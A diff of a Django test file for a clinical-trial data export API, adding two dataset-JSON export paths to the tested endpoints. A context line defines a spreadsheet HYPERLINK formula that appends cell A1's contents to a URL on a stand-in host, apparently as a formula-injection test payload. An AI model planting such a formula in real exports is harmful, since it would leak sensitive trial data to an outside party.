@@ -29,7 +29,8 @@ from trials.models import AdverseEvent, DataQuery, Lock, Procedure, SkeletalEven
 pytestmark = pytest.mark.django_db
 
 FILE_EXPORTS = ("/api/v1/export/odm.xml", "/api/v1/export/redcap/records.csv", "/api/v1/export/redcap/dictionary.csv",
-                "/api/v1/export/registry.xlsx")
+                "/api/v1/export/registry.xlsx", "/api/v1/export/dataset-json/adverse-events.json",
+                "/api/v1/export/dataset-json/procedures.ndjson")
 ALL_EXPORTS = FILE_EXPORTS + tuple(f"/api/v1/export/{name}.csv" for name in EXPORTS)
 READ_ROLES = tuple(r for r in ROLES if r != "anonymous")
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"details")'
